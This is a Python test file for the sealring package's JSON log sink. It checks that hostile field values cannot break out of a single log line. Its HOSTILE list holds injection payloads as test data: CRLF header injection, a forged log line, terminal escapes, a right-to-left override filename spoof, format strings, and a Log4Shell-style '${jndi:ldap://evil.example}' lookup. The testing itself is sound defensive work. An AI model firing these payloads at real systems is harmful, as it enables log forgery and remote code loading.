"""Log lines: one JSON object a line, whatever is in the fields."""

import json
import logging

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sealring.events import Event, KeyRowRefused, RequestRefused, SessionOpened, Severity, TokenIssued, all_event_types
from sealring.observe.logs import LogSink
from tests.test_events import example

HOSTILE = [
    "\r\nSet-Cookie: a=b",
    "\n{\"event\": \"session_opened\"}",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\x00\x08\x7f\x85\u2028\u2029\ufeff",
    "\u202egnp.exe \u200b\u2066",
    "\ud800 alone",
    '"} {"',
    "%s %d %(name)s {0}",
    "${jndi:ldap://evil.example}",
]  # fmt: skip


class Lines(logging.Handler):
    """Keeps what a handler would write."""

    def __init__(self) -> None:
        super().__init__()
        self.records: list[logging.LogRecord] = []
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)
        self.lines.append(self.format(record))


def written(*events: Event, level: int = logging.DEBUG) -> Lines:
    """Return what comes of some events."""
    handler, logger = Lines(), logging.Logger("test", level)
    logger.addHandler(handler)
    sink = LogSink(logger)
    for event in events:
        sink.emit(event)
    return handler


def refused(text: str) -> RequestRefused:
    return RequestRefused(code="not_found", detail=text, request_id=text, method=text, path=text)


@pytest.mark.parametrize("kind", [pytest.param(kind, id=kind.name) for kind in all_event_types()])
def test_every_event_is_one_json_object_with_its_name_and_its_fields(kind: type[Event]) -> None:
    event = example(kind)
    (line,) = written(event).lines
    assert json.loads(line) == {"event": kind.name, **event.as_fields()}


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_nothing_in_a_field_breaks_out_of_its_line(text: str) -> None:
    (line,) = written(refused(text)).lines
    assert line.isascii()
    assert line.isprintable()
    assert json.loads(line)["path"] == text


@given(st.text(st.characters(exclude_categories=())))
def test_any_text_makes_one_printable_line_that_reads_back(text: str) -> None:
    (line,) = written(refused(text)).lines
    assert line.isascii()
    assert line.isprintable()
    assert len(line) <= 4_096
    told = json.loads(line)["path"]
    assert told == text or (json.loads(line)["cut"] and told == text[:32])


@pytest.mark.parametrize("text", ["a" * 5_000, "\U0001f600" * 5_000, "\x1b" * 2_000, '"' * 4_000, "\\" * 4_000])
def test_a_line_that_would_be_too_long_is_cut_in_its_values_and_stays_json(text: str) -> None:
    (line,) = written(refused(text)).lines
    assert len(line) <= 4_096
    told = json.loads(line)
    assert (told["event"], told["cut"], told["path"]) == ("request_refused", True, text[:32])


def test_numbers_and_booleans_are_never_cut() -> None:
    event = TokenIssued(
        subject="a" * 5_000, session_id="b", generation=2**32 - 1, token_id="c", algorithm="ES256", size=1_400
    )
    (line,) = written(event).lines
    assert json.loads(line)["generation"] == 2**32 - 1


@pytest.mark.parametrize(
    ("severity", "level"),
    [(Severity.DEBUG, "DEBUG"), (Severity.INFO, "INFO"), (Severity.WARNING, "WARNING"), (Severity.ALERT, "ERROR")],
)
def test_the_severity_is_a_level_of_logging(severity: Severity, level: str) -> None:
    kind = next(kind for kind in all_event_types() if kind.severity is severity)
    (record,) = written(example(kind)).records
    assert (record.levelname, record.levelno) == (level, severity)


def test_what_nobody_listens_to_is_not_written() -> None:
    quiet = SessionOpened(subject="ada", session_id="0" * 32, client_id="todo-web", persistent=True)
    alarm = KeyRowRefused(key_id="kid", detail="not authentic")
    assert [record.levelname for record in written(quiet, alarm, level=logging.WARNING).records] == ["ERROR"]


def test_the_fields_are_on_the_record_for_a_formatter_of_one_s_own() -> None:
    (record,) = written(refused("x")).records
    assert record.sealring == {  # type: ignore[attr-defined]
        "event": "request_refused", "code": "not_found", "detail": "x", "request_id": "x", "method": "x", "path": "x",
    }  # fmt: skip


def test_without_a_logger_it_writes_to_the_package_s_own(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG, "sealring.events"):
        LogSink().emit(refused("x"))
    assert [record.name for record in caplog.records] == ["sealring.events"]
